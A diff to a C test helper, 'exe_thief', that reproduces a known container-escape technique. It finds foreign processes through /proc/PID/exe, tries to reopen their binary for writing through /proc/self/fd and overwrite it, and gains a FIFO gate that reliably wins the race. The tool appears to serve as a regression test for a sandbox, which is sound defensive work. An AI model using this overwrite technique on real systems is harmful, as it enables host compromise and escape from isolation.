@@ -4,7 +4,13 @@
  * keeps that binary open, and tries to reopen it for writing through
  * /proc/self/fd until nothing runs it any more, as the real exploit did.
  *
- *   exe_thief LOG SECONDS
+ *   exe_thief LOG SECONDS [GATE]
+ *
+ * GATE is a FIFO the victim's program opens for writing (the interpreter
+ * line "#!/proc/self/exe --log=GATE" makes it berth's log file), which
+ * holds the victim until the thief has looked: it is opened for reading
+ * once a foreign binary is found, or two seconds after another process
+ * first showed up, so the race is never lost by chance.
  *
  * Appends one line per event to LOG: "denied PID ERRNO" for a process
  * whose binary it may not open, "found PID", then "wrote" when it
@@ -25,6 +31,7 @@
 #define MAX_SEEN 4096
 
 static FILE *log_file;
+static time_t other_seen;
 static pid_t seen[MAX_SEEN];
 static int n_seen;
 
@@ -71,6 +78,8 @@ static int scan(const struct stat *self, const struct stat *busybox)
 
 		if (pid <= 0 || pid == getpid())
 			continue;
+		if (!other_seen)
+			other_seen = time(NULL);
 		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
 		fd = open(path, O_RDONLY | O_CLOEXEC);
 		if (fd < 0) {
@@ -114,21 +123,31 @@ static void overwrite(int fd, time_t deadline)
 	}
 }
 
+/* Let the victim go on: its open of the FIFO for writing returns. */
+static void open_gate(const char *gate)
+{
+	if (gate && open(gate, O_RDONLY | O_NONBLOCK | O_CLOEXEC) >= 0)
+		note("gate opened");
+}
+
 int main(int argc, char **argv)
 {
 	struct stat self, busybox;
+	const char *gate = argc == 4 ? argv[3] : NULL;
 	time_t deadline;
 	int fd = -1;
 
-	if (argc != 3)
+	if (argc != 3 && argc != 4)
 		return 2;
 	log_file = fopen(argv[1], "a");
 	if (!log_file || stat("/proc/self/exe", &self) < 0 || stat("/bin/busybox", &busybox) < 0)
 		return 2;
 	note("watching");
 	deadline = time(NULL) + atoi(argv[2]);
-	while (fd < 0 && time(NULL) < deadline)
+	while (fd < 0 && time(NULL) < deadline &&
+	       !(other_seen && time(NULL) - other_seen >= 2))
 		fd = scan(&self, &busybox);
+	open_gate(gate);
 	if (fd >= 0)
 		overwrite(fd, deadline);
 	note("done");
